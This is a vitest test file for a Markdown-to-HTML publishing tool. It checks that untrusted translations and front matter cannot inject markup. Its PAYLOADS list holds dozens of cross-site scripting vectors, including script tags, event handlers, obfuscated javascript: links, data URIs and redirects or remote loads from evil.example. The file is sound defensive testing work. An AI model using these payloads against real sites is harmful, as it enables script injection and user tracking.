/**
 * Translations are untrusted: no payload in a Markdown body or in front matter may reach the
 * page as markup, script, event handler, style or a link to anything but http, https, mailto.
 */
import { describe, expect, it } from 'vitest';
import { VFile } from 'vfile';
import { toHtml } from 'hast-util-to-html';
import { parseMarkdown } from '../../src/content/parse.js';
import { findLanguage, LANGUAGES } from '../../src/languages.js';
import { renderBody } from '../../src/export/html/markdown.js';
import { statementTree } from '../../src/export/html/page.js';
import { serialise } from '../../src/export/html/document.js';
import { isSafeHref } from '../../src/export/html/sanitize.js';
import type { Publication } from '../../src/publication.js';
import i18next from 'i18next';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">a</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{background:url(https://evil.example/track.png)}</style>',
  '<details open ontoggle=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<!-- <script>alert(1)</script> -->',
  '[link](javascript:alert(1))',
  '[link](JaVaScRiPt:alert(1))',
  '[link](javascript&#58;alert(1))',
  '[link](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[link](&#x6A;avascript:alert(1))',
  '[link](<java\tscript:alert(1)>)',
  '[link](<\u0001javascript:alert(1)>)',
  '[link]( javascript:alert(1) )',
  '[link](vbscript:msgbox(1))',
  '[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[link](//evil.example/relative)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![img](https://evil.example/track.png)',
  '![img](javascript:alert(1))',
  '<https://ok.example/"onmouseover="alert(1)>',
  '[x](https://ok.example/" onmouseover="alert(1))',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/** Elements and attributes a rendered statement may contain; anything else came from a payload. */
const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'em', 'del', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'h2', 'h3', 'h4', 'h5', 'h6',
  'a', 'sup', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'section', 'bdi',
  // the page around the body
  'html', 'head', 'body', 'meta', 'title', 'link', 'header', 'div', 'nav', 'main', 'article', 'aside', 'footer', 'b', 'time', 'h1',
  'label', 'textarea', // the Share section's texts to copy
]);
const ALLOWED_ATTRIBUTES = new Set([
  'href', 'rel', 'id', 'dir', 'lang', 'class', 'hreflang', 'type', 'aria-label', 'aria-current', 'aria-labelledby', 'aria-describedby',
  'data-footnote-ref', 'data-footnote-backref', 'data-footnotes', 'data-script', 'start', 'datetime', 'role',
  'charset', 'name', 'content', 'property', 'title',
  'sizes', // the page's own icon links
  'for', 'readonly', 'rows', // the Share section's text areas
]);

/**
 * The tags of serialised output (hast-util-to-html escapes `<` in text and `"` in attribute
 * values, so every literal `<name` is a real element and every attribute is a real attribute).
 */
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s="'>/]+(?:="[^"]*")?)*)\s*\/?>/g;

function tags(html: string): { name: string; attributes: Record<string, string> }[] {
  const out: { name: string; attributes: Record<string, string> }[] = [];
  for (const match of html.matchAll(TAG)) {
    const attributes: Record<string, string> = {};
    for (const a of match[2].matchAll(/\s([^\s="'>/]+)(?:="([^"]*)")?/g)) attributes[a[1].toLowerCase()] = decode(a[2] ?? '');
    out.push({ name: match[1].toLowerCase(), attributes });
  }
  return out;
}

function decode(value: string): string {
  return value.replace(/&#x([0-9a-f]+);/gi, (_, hex) => String.fromCodePoint(parseInt(hex, 16))).replace(/&amp;/g, '&');
}

/** `page`: the chrome's own relative links (../en/, #statement, x-de-a4.pdf) are allowed too. */
function expectHarmless(html: string, page = false): void {
  // Outside real tags (attribute values can hold anything, escaped) no markup may remain.
  const outside = html.replace(TAG, '').replace(/<\/[a-zA-Z0-9]+>/g, '');
  expect(outside).not.toMatch(/<[a-zA-Z!?/]/);
  for (const tag of tags(html)) {
    expect(ALLOWED_TAGS.has(tag.name), `<${tag.name}> in ${html}`).toBe(true);
    for (const [name, value] of Object.entries(tag.attributes)) {
      expect(ALLOWED_ATTRIBUTES.has(name), `${name}="${value}" on <${tag.name}>`).toBe(true);
      if (name === 'href' && tag.name === 'a') expect(isSafeHref(value) || (page && /^[#.\w][^:]*$/.test(value)), `href="${value}"`).toBe(true);
    }
  }
}

const en = findLanguage('en')!;

async function body(markdown: string, lang = en): Promise<string> {
  const { tree } = parseMarkdown(`---\ntitle: "t"\n---\n\n${markdown}\n`, new VFile());
  return toHtml(await renderBody(tree, { lang }));
}

function publication(title: string, summary: string, markdown: string): Publication {
  const file = new VFile({ path: 'translations/de/x.md' });
  const text = `---\ntitle: ${JSON.stringify(title)}\nsummary: ${JSON.stringify(summary)}\nquote: ${JSON.stringify(title)}\ndate: 2026-11-24\n---\n\n${markdown}\n`;
  const parsed = parseMarkdown(text, file);
  const lang = findLanguage('de')!;
  const doc = { kind: 'translation' as const, slug: 'x', lang, path: file.path, file, text, ...parsed };
  const instance = i18next.createInstance();
  void instance.init({ lng: 'de', resources: {}, initAsync: false, showSupportNotice: false } as Parameters<typeof instance.init>[0]);
  return { slug: 'x', lang, doc, source: doc, t: instance.getFixedT('de'), published: [findLanguage('en')!, lang], date: '2026-11-24' };
}

describe('untrusted Markdown', () => {
  it.each(PAYLOADS)('neutralises %s', async (payload) => {
    expectHarmless(await body(`Text before ${payload} text after.`));
    expectHarmless(await body(payload));
  });

  it('keeps the words of a removed link and keeps safe links', async () => {
    const out = await body('[bad](javascript:alert(1)) and [good](https://example.org/a?b=1) and [mail](mailto:psl@example.org)');
    expect(out).toContain('bad');
    expect(out).toContain('<a href="https://example.org/a?b=1" rel="noopener noreferrer">good</a>');
    expect(out).toContain('href="mailto:psl@example.org"');
  });

  it('escapes raw HTML in text instead of interpreting it', async () => {
    const out = await body('Use \\<b> for bold, and 1 < 2 > 0 & so on.');
    expect(out).toContain('&#x3C;b>');
    expect(out).not.toContain('<b>');
  });

  it('accepts only http, https and mailto as a browser parses them', () => {
    expect(isSafeHref('https://example.org/')).toBe(true);
    expect(isSafeHref('mailto:a@example.org')).toBe(true);
    for (const href of ['javascript:alert(1)', '\u0001javascript:alert(1)', ' JAVASCRIPT:alert(1)', 'java\nscript:alert(1)', 'data:text/html,x', 'vbscript:x', 'ftp://example.org', '/relative', '//evil.example/x', 'https:/\\evil']) {
      expect(isSafeHref(href), href).toBe(href === 'https:/\\evil' ? true : false);
    }
  });
});

describe('untrusted front matter', () => {
  it.each(PAYLOADS.filter((p) => p.startsWith('<')))('title and summary %s stay text', async (payload) => {
    const pub = publication(`Title ${payload}`, `Summary ${payload} "quoted"`, 'Body.');
    const page = serialise(await statementTree(pub));
    // The tree before finishPages adds the stylesheet: no <style>, no <script>, nothing else foreign.
    expectHarmless(page.replace(/^<!DOCTYPE html>/, ''), true);
    expect(page).toContain('<h1>Title &#x3C;');
  });
});

it('every language renders the same payloads safely (typography on RTL text must not reintroduce markup)', async () => {
  for (const lang of LANGUAGES) {
    const out = await body(`«${PAYLOADS.join(' ')}» (PSL) § 22 (2)`, lang);
    expectHarmless(out);
  }
});

it('the checker itself catches markup, handlers and unsafe links', () => {
  for (const bad of ['<p onclick="x">a</p>', '<script>x</script>', '<a href="javascript:x">a</a>', '<a href="&#x6A;avascript:x">a</a>', '<p>a<!-- x --></p>', '<img src="x">']) {
    expect(() => expectHarmless(bad), bad).toThrow();
  }
  expect(() => expectHarmless('<p>1 &#x3C; 2 <a href="https://example.org/">a</a></p>')).not.toThrow();
});

it('footnotes link both ways and get no English heading when the language has none', async () => {
  const out = await body('A claim.[^1]\n\n[^1]: The source.');
  expect(out).toContain('<a href="#user-content-fn-1" id="user-content-fnref-1" data-footnote-ref>1</a>');
  expect(out).toContain('<li id="user-content-fn-1">');
  expect(out).toContain('href="#user-content-fnref-1"');
  expect(out).not.toMatch(/Footnotes|<h\d/);
  const { tree } = parseMarkdown('---\ntitle: "t"\n---\n\nA claim.[^1]\n\n[^1]: The source.\n', new VFile());
  const labelled = toHtml(await renderBody(tree, { lang: en, footnoteLabel: 'Anmerkungen' }));
  expect(labelled).toContain('<h3 id="footnote-label">Anmerkungen</h3>');
  expect(labelled).toContain('aria-describedby="footnote-label"');
});
